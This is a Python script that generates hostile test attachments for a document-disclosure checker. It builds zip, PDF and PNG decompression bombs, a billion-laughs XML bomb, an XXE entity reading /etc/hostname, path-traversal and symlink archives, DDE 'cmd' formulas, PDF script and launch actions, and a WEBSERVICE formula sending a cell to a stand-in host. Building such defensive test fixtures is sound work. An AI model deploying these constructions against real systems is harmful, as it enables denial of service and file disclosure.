"""Make the folder of hostile files: `python tests/guard/make_hostile.py FOLDER`. What is in them is innocuous.

`HOSTILE` names each file, the code of the rule that must find it, and how it is made. With `--examples` the folders
tests/examples/ATT*/ are written anew.
"""

import shutil
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import pikepdf

sys.path.insert(0, str(Path(__file__).parent))
from files import (
    CLEAN,
    XML,
    S,
    W,
    cell,
    core,
    docx,
    exif,
    odt,
    ofd,
    office,
    ole,
    paragraph,
    pdf,
    picture,
    pptx,
    relations,
    scanned,
    write,
    xlsx,
    zipped,
)  # fmt: skip

NAME = "苏某某"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(12))


def _zeros(size, method=zipfile.ZIP_DEFLATED):
    """An office file with a part that unpacks to `size` zeros."""
    types = f'{XML}<Types xmlns="x"/>'
    return zipped({"[Content_Types].xml": types, "word/document.xml": bytes(size)}, method)


def lying():
    """A part that says it is 100 bytes long and is ten million."""
    raw = bytearray(docx(parts={"word/media/x.xml": bytes(10_000_000)}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = raw.index(mark)
        while place >= 0:
            if struct.unpack_from("<I", raw, place + at)[0] == 10_000_000:
                struct.pack_into("<I", raw, place + at, 100)
            place = raw.find(mark, place + 4)
    return bytes(raw).replace(b"word/media/x.xml", b"word/footnotes.x")


def overlapping():
    """A thousand names for the bytes of one part."""
    data = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = data.compress(bytes(100_000)) + data.flush()
    rest = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, zlib.crc32(bytes(100_000)), len(body), 100_000, 6, 0)
    raw = b"PK\x03\x04" + rest + b"000000" + body
    names = [f"{n:06}".encode() for n in range(1000)]
    listing = b"".join(
        b"PK\x01\x02" + struct.pack("<H", 20) + rest[:-2] + struct.pack("<HHHHII", 0, 0, 0, 0, 0, 0) + name
        for name in names
    )
    return (
        raw
        + listing
        + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(names), len(names), len(listing), len(raw), 0)
    )


def nested():
    """A zip in a zip in a zip, each ten times wider."""
    inner = zipped({f"{n}.txt": bytes(1_000_000) for n in range(10)})
    for _ in range(2):
        inner = zipped({f"{n}.zip": inner for n in range(10)})
    return inner


def linked():
    """A zip with a symbolic link in it."""
    info = zipfile.ZipInfo("landing.txt")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return zipped({info: "/etc/hostname", "notice.docx": docx()})


def locked_zip():
    """A zip that says it is encrypted."""
    raw = bytearray(zipped({"a.txt": "潮汐"}, zipfile.ZIP_STORED))
    raw[6] |= 1
    raw[raw.index(b"PK\x01\x02") + 8] |= 1
    return bytes(raw)


def deep():
    """A document nested 100,000 deep."""
    return office(
        "docx", {"word/document.xml": f"<w:document {W}>{'<w:p>' * 100_000}{'</w:p>' * 100_000}</w:document>"}
    )


def many_rows():
    """A million rows, each of them empty but the first."""
    rows = "".join(f'<row r="{n}"/>' for n in range(2, 1_048_577))
    return xlsx(
        {
            "渡口": f'<dimension ref="A1:XFD1048576"/><sheetData><row r="1">{cell("A1", "渡口")}</row>{rows}</sheetData>'
        }
    )


def xref_bomb():
    """A PDF whose very table of contents unpacks to 400 MB."""
    data = zlib.compress(bytes(400_000_000), 1)
    head = b"%PDF-1.7\n"
    body = (
        b"1 0 obj\n<</Type/XRef/Size 133000000/W[1 1 1]/Root 2 0 R/Filter/FlateDecode/Length %d>>\nstream\n"
        % len(data)
    )
    return head + body + data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def stream_bomb(times):
    """A PDF whose page unpacks to 300 MB, deflated once or twice."""

    def change(made):
        data = zlib.compress(b" " * 300_000_000, 1)
        for _ in range(times - 1):
            data = zlib.compress(data)
        stream = pikepdf.Stream(made, b"")
        stream.write(data, filter=pikepdf.Array([pikepdf.Name.FlateDecode] * times))
        made.pages[0].obj.Contents = made.make_indirect(stream)

    return pdf(change)


def picture_bomb():
    """A PNG of 900 million dots in 110 kB."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(bytes((30_000 // 8 + 1) * 30_000), 9)
    head = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def text_bomb():
    """A PNG whose note unpacks to 200 MB."""
    raw = picture("PNG")
    data = b"Comment\0\0" + zlib.compress(bytes(200_000_000), 1)
    chunk = struct.pack(">I", len(data)) + b"zTXt" + data + struct.pack(">I", zlib.crc32(b"zTXt" + data))
    return raw[:33] + chunk + raw[33:]


def _action(**words):
    def change(made):
        made.Root.OpenAction = pikepdf.Dictionary(**words)

    return lambda: pdf(change)


def _attached(made):
    made.attachments["names.csv"] = b"a,b\n1,2\n"


def _layer(made):
    group = made.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.OCG, Name="draft"))
    made.Root.OCProperties = pikepdf.Dictionary(
        OCGs=pikepdf.Array([group]), D=pikepdf.Dictionary(OFF=pikepdf.Array([group]))
    )


def _note(made):
    made.pages[0].obj.Annots = pikepdf.Array(
        [
            made.make_indirect(
                pikepdf.Dictionary(
                    Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], Contents="check again", T="reader"
                )
            )
        ]
    )


def _author(made):
    made.docinfo["/Author"] = NAME


def _hidden_script(made):
    """A script on a page's annotation, where the root shows nothing."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1+1")
    made.pages[0].obj.Annots = pikepdf.Array(
        [pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], AA=pikepdf.Dictionary(E=script))]
    )


def _locked(made=None):
    return pdf(encryption=pikepdf.Encryption(owner="b", user="a"))


def _chunk(name, raw):
    return docx('<w:altChunk r:id="c1"/>', {f"word/{name}": raw}, [("c1", "aFChunk", name)])


def _only_chunk(name, raw):
    body = f'{XML}<w:document {W}><w:body><w:altChunk r:id="c1"/></w:body></w:document>'
    rels = relations(("c1", "aFChunk", name))
    return office(
        "docx", {"word/document.xml": body, "word/_rels/document.xml.rels": rels, f"word/{name}": raw}
    )


def _tracked():
    who = f'w:id="1" w:author="{NAME}" w:date="2026-01-05T08:00:00Z"'
    gone = f"<w:p><w:del {who}><w:r><w:delText>原定停航五天</w:delText></w:r></w:del>"
    return docx(f"{gone}<w:ins {who}><w:r><w:t>停航三天</w:t></w:r></w:ins></w:p>")


def _commented():
    note = f'<w:comment w:id="1" w:author="{NAME}">{paragraph("此处再核")}</w:comment>'
    part = f"{XML}<w:comments {W}>{note}</w:comments>"
    return docx(parts={"word/comments.xml": part}, rows=[("rId5", "comments", "comments.xml")])


def _sheet_comment():
    text = '<comment ref="A1" authorId="0"><text><t>此处再核</t></text></comment>'
    part = f"{XML}<comments {S}><authors><author>{NAME}</author></authors><commentList>{text}</commentList></comments>"
    return xlsx(parts={"xl/comments1.xml": part}, sheet_rows=[("rId1", "comments", "../comments1.xml")])


def _two_sheets(state):
    inner = f'<sheetData><row r="1">{cell("A1", "渡口")}</row></sheetData>'
    return xlsx({"渡口": inner, "底稿": inner}, states={"底稿": f' state="{state}"'})


def _hidden_rows():
    return xlsx(
        {
            "渡口": f'<sheetData><row r="1">{cell("A1", "渡口")}</row><row r="2" hidden="1">{cell("A2", "底数")}</row></sheetData>'
        }
    )


def _hidden_columns():
    cells = f'<sheetData><row r="1">{cell("A1", "渡口")}{cell("B1", "底数")}</row></sheetData>'
    return xlsx({"渡口": f'<cols><col min="2" max="2" hidden="1"/></cols>{cells}'})


def _formula(formula):
    return xlsx({"渡口": f'<sheetData><row r="1">{cell("A1", "0", formula)}</row></sheetData>'})


def _pivot():
    items = '<cacheField name="a"><sharedItems><s v="底数"/></sharedItems></cacheField>'
    part = f"{XML}<pivotCacheDefinition {S}><cacheFields>{items}</cacheFields></pivotCacheDefinition>"
    return xlsx(parts={"xl/pivotCache/pivotCacheDefinition1.xml": part})


def _linked_workbook():
    rels = relations(("rId1", "externalLinkPath", "file:///C:/ledger/base.xlsx", "External"))
    part = f'{XML}<externalLink {S}><externalBook r:id="rId1"/></externalLink>'
    return xlsx(
        parts={
            "xl/externalLinks/externalLink1.xml": part,
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
        },
        rows=[("rId9", "externalLink", "externalLinks/externalLink1.xml")],
    )


def _template():
    rels = relations(("rId1", "attachedTemplate", "http://template.invalid/t.dotm", "External"))
    return docx(parts={"word/settings.xml": f"{XML}<w:settings {W}/>", "word/_rels/settings.xml.rels": rels})


def _workbook_stream(*records):
    data = b"".join(struct.pack("<HH", code, len(body)) + body for code, body in (*records, (0x0A, b"")))
    return {"Workbook": data}


def _doc(flags=0):
    return {"WordDocument": struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0, 0, flags)}


def _embedded(raw, name="oleObject1.bin"):
    return docx(parts={f"word/embeddings/{name}": raw}, rows=[("rId7", "oleObject", f"embeddings/{name}")])


HOSTILE = {
    "exe-as.pdf": ("ATT108", lambda: b"MZ" + bytes(400)),
    "page.html": ("ATT108", lambda: b"<!DOCTYPE html><html><body>notice</body></html>"),
    "page-as.txt": ("ATT108", lambda: b"<html><script>1+1</script></html>"),
    "drawing.svg": ("ATT108", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1+1</script></svg>'),
    "package.docx": ("ATT108", lambda: _embedded(ole({"\x01Ole10Native": b"a.exe"}))),
    "docx-as.pdf": ("ATT101", docx),
    "pdf-as.docx": ("ATT101", pdf),
    "picture-as.png": ("ATT101", picture),
    "truncated.docx": ("ATT102", lambda: docx()[:-60]),
    "truncated.pdf": ("ATT102", lambda: pdf()[:-300]),
    "truncated.jpg": ("ATT102", lambda: picture()[:1200]),
    "truncated.png": ("ATT102", lambda: picture("PNG")[:400]),
    "broken-xml.docx": ("ATT102", lambda: office("docx", {"word/document.xml": "<w:document"})),
    "no-document.docx": ("ATT102", lambda: office("docx", {"word/styles.xml": "<a/>"})),
    "garbage.pdf": ("ATT102", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF\n"),
    "broken.doc": ("ATT102", lambda: ole(_doc())[:700]),
    "lying.docx": ("ATT102", lying),
    "declared-bomb.docx": ("ATT103", lambda: _zeros(300_000_000)),
    "small-bomb.docx": ("ATT103", lambda: _zeros(30_000_000, zipfile.ZIP_BZIP2)),
    "wide-bomb.zip": ("ATT103", lambda: zipped({f"{n}.txt": bytes(19_000_000) for n in range(25)})),
    "overlapping.zip": ("ATT103", overlapping),
    "many-parts.zip": ("ATT103", lambda: zipped(dict.fromkeys(map(str, range(20_000)), ""))),
    "deep.docx": ("ATT103", deep),
    "10000-pages.pdf": ("ATT103", lambda: pdf(pages=10_000)),
    "stream-bomb.pdf": ("ATT103", lambda: stream_bomb(1)),
    "twice-deflated-bomb.pdf": ("ATT103", lambda: stream_bomb(2)),
    "xref-bomb.pdf": ("ATT10", xref_bomb),
    "picture-bomb.png": ("ATT103", picture_bomb),
    "text-bomb.png": ("ATT10", text_bomb),
    "long-line.csv": ("ATT103", lambda: b"x" * 40_000_000),
    "larger-than-allowed.csv": ("ATT104", lambda: b"x" * 50_000_001),
    "empty.docx": ("ATT105", lambda: b""),
    "empty.zip": ("ATT105", lambda: zipped({})),
    "locked.docx": ("ATT106", lambda: ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"})),
    "locked.doc": ("ATT106", lambda: ole(_doc(0x0100))),
    "locked.xls": ("ATT106", lambda: ole(_workbook_stream((0x2F, bytes(6))))),
    "locked.pdf": ("ATT106", _locked),
    "locked.zip": ("ATT106", locked_zip),
    "locked.odt": (
        "ATT106",
        lambda: odt(
            parts={"META-INF/manifest.xml": "<m:manifest xmlns:m='m'><m:encryption-data/></m:manifest>"}
        ),
    ),
    "archive.rar": ("ATT107", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(100)),
    "archive.7z": ("ATT107", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(100)),
    "rich.rtf": ("ATT107", lambda: b"{\\rtf1 notice}"),
    "unknown.docx": ("ATT107", lambda: bytes(range(256)) * 4),
    "old.doc": ("ATT109", lambda: ole(_doc())),
    "old.xls": ("ATT109", lambda: ole(_workbook_stream((0x85, bytes(6) + b"\x01\x00a")))),
    "nested.zip": ("ATT109", nested),
    "chunk-rtf.docx": ("ATT109", lambda: _only_chunk("c.rtf", b"{\\rtf1 hidden}")),
    "film.mp4": ("ATT110", lambda: b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(100)),
    "macro.docx": ("ATT111", lambda: docx(parts={"word/vbaProject.bin": ole({"VBA/dir": b"x"})})),
    "macro.xls": ("ATT111", lambda: ole({**_workbook_stream(), "_VBA_PROJECT_CUR/VBA/dir": b"x"})),
    "macro-sheet.xls": ("ATT111", lambda: ole(_workbook_stream((0x85, bytes(5) + b"\x01\x01\x00a")))),
    "macro.odt": ("ATT111", lambda: odt(parts={"Basic/Standard/Module1.xml": "<a/>"})),
    "script.pdf": ("ATT112", _action(S=pikepdf.Name.JavaScript, JS="1+1")),
    "hidden-script.pdf": ("ATT112", lambda: pdf(_hidden_script)),
    "launch.pdf": ("ATT112", _action(S=pikepdf.Name.Launch, F="notepad")),
    "dde.xlsx": ("ATT112", lambda: _formula("cmd|'/c echo'!A0")),
    "dde.csv": ("ATT112", lambda: b"a,b\n=cmd|'/c echo'!A0,1\n"),
    "dde.docx": ("ATT112", lambda: docx('<w:p><w:fldSimple w:instr="DDEAUTO excel book a1"/></w:p>')),
    "embedded.docx": ("ATT113", lambda: _embedded(xlsx(), "table.xlsx")),
    "attached.pdf": ("ATT113", lambda: pdf(_attached)),
    "template.docx": ("ATT114", _template),
    "outside-picture.docx": (
        "ATT114",
        lambda: docx(rows=[("rId8", "image", "http://picture.invalid/a.png", "External")]),
    ),
    "webservice.xlsx": ("ATT114", lambda: _formula("WEBSERVICE(&quot;http://service.invalid/&quot;&amp;A2)")),
    "linked.xlsx": ("ATT115", _linked_workbook),
    "billion-laughs.docx": (
        "ATT116",
        lambda: office(
            "docx",
            {"word/document.xml": f"<!DOCTYPE a [{LAUGHS}]><w:document {W}><w:p>&l11;</w:p></w:document>"},
        ),
    ),
    "entity.xlsx": (
        "ATT116",
        lambda: office(
            "xlsx",
            {
                "xl/workbook.xml": f'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hostname">]><workbook {S}>&e;</workbook>'
            },
        ),
    ),
    "entity-in-rels.docx": (
        "ATT116",
        lambda: docx(parts={"word/_rels/x.xml.rels": '<!DOCTYPE a [<!ENTITY e "x">]><a/>'}),
    ),
    "leads-out.zip": ("ATT117", lambda: zipped({"../../outside.txt": "潮", "notice.docx": docx()})),
    "leads-out.docx": ("ATT117", lambda: docx(parts={"../../outside.xml": "<a/>"})),
    "linked.zip": ("ATT117", linked),
    "polyglot.pdf": ("ATT118", lambda: pdf() + zipped({"inner.txt": "潮汐"})),
    "polyglot.jpg": ("ATT118", lambda: picture() + zipped({"inner.txt": "潮汐"})),
    "hidden-sheet.xlsx": ("ATT121", lambda: _two_sheets("hidden")),
    "very-hidden-sheet.xlsx": ("ATT121", lambda: _two_sheets("veryHidden")),
    "hidden-sheet.xls": ("ATT121", lambda: ole(_workbook_stream((0x85, bytes(4) + b"\x01\x00\x01\x00a")))),
    "hidden-slide.pptx": ("ATT121", lambda: pptx(show="0")),
    "hidden-rows.xlsx": ("ATT122", _hidden_rows),
    "hidden-columns.xlsx": ("ATT122", _hidden_columns),
    "pivot.xlsx": ("ATT123", _pivot),
    "comment.docx": ("ATT124", _commented),
    "comment.xlsx": ("ATT124", _sheet_comment),
    "comment.pdf": ("ATT124", lambda: pdf(_note)),
    "notes.pptx": ("ATT124", lambda: pptx(notes="会上先不说")),
    "tracked.docx": ("ATT125", _tracked),
    "tracked.odt": (
        "ATT125",
        lambda: odt('<text:tracked-changes><text:changed-region text:id="a"/></text:tracked-changes>'),
    ),
    "hidden-text.docx": ("ATT126", lambda: docx(paragraph("底数", "<w:vanish/>"))),
    "white-text.docx": ("ATT126", lambda: docx(paragraph("底数", '<w:color w:val="FFFFFF"/>'))),
    "author.docx": ("ATT127", lambda: docx(core=core(NAME))),
    "author.pdf": ("ATT127", lambda: pdf(_author)),
    "author.jpg": ("ATT127", lambda: picture(exif=exif(artist="A. Keeper"))),
    "author.ofd": ("ATT127", lambda: ofd(NAME)),
    "coordinates.jpg": ("ATT128", lambda: picture(exif=exif(gps=True))),
    "coordinates.webp": ("ATT128", lambda: picture("WEBP", exif=exif(gps=True))),
    "coordinates.docx": (
        "ATT128",
        lambda: docx(parts={"word/media/image1.jpeg": picture(exif=exif(gps=True))}),
    ),
    "coordinates.zip": ("ATT128", lambda: zipped({"landing.jpg": picture(exif=exif(gps=True))})),
    "layer.pdf": ("ATT129", lambda: pdf(_layer)),
    "scanned.pdf": ("ATT131", scanned),
    "only-pictures.docx": (
        "ATT132",
        lambda: office("docx", {"word/document.xml": f"{XML}<w:document {W}><w:body/></w:document>"}),
    ),
    "chunk-empty.docx": ("ATT132", lambda: _only_chunk("c.html", b"<html><body></body></html>")),
    "blank.txt": ("ATT132", lambda: b"\n \n"),
}
"""Name → (code of the rule that finds it, maker). A code of five letters stands for any rule that begins so."""

READ = {
    "chunk-html.docx": (lambda: _only_chunk("c.html", "<html><p>停航三天</p></html>".encode()), "停航三天"),
    "chunk-docx.docx": (lambda: _only_chunk("c.docx", docx()), "二号渡口"),
    "million-rows.xlsx": (many_rows, "渡口"),
    "deleted.docx": (_tracked, "原定停航五天"),
    "hidden.xlsx": (lambda: _two_sheets("veryHidden"), "渡口"),
    "pivot.xlsx": (_pivot, "底数"),
    "comment.docx": (_commented, "此处再核"),
    "embedded.docx": (lambda: _embedded(xlsx(), "table.xlsx"), "班次"),
    "vanished.docx": (lambda: docx(paragraph("底数", "<w:vanish/>")), "底数"),
}
"""Name → (maker, words that must be in what is read)."""


def write_examples(folder):
    """tests/examples/ATT*/{good,bad}: the smallest hostile file of each rule, and a clean one."""
    from gongkai.checks.attached import RULES

    for rule in RULES:
        if rule.code == "ATT104":
            continue
        found = [
            (name, make())
            for name, (code, make) in HOSTILE.items()
            if code == rule.code and "bomb" not in name[:8]
        ]
        name, raw = min(found, key=lambda row: len(row[1]))
        ending = name.rpartition(".")[2]
        good = next(((n, m()) for n, m in CLEAN.items() if n.endswith(f".{ending}")), ("notice.docx", docx()))
        for kind, (file, data) in (("bad", (name, raw)), ("good", good)):
            _write_example(Path(folder) / f"{rule.code}-{rule.name}" / kind, file, data)


def _write_example(case, file, data):
    shutil.rmtree(case, ignore_errors=True)
    item = case / "content/office/2026/office-2026-00001"
    item.mkdir(parents=True)
    (item / file).write_bytes(data)
    item.with_suffix(".yml").write_text(ITEM.format(file=file), encoding="utf-8")
    if case.name == "bad":
        (case / "expect.txt").write_text("content/office/2026/office-2026-00001.yml:12\n", encoding="utf-8")


ITEM = """id: office-2026-00001
type: notice
title: 关于临时调整渡口开放时间的通知
department: office
addressees: 各渡口、各船主
document_date: '2026-02-27'
contact: {{name: 办公室值班室, telephone: 0000-5550100}}
openness: proactive
secrecy: public
body: 自3月3日起，二号渡口开放时间改为七时至十九时。
attachments:
  - {{file: {file}, title: 附件}}
"""

if __name__ == "__main__":
    if sys.argv[1:] == ["--examples"]:
        write_examples(Path(__file__).parents[1] / "examples")
    elif len(sys.argv) == 2:
        write(sys.argv[1], {name: make for name, (_, make) in HOSTILE.items()})
    else:
        sys.exit(__doc__)
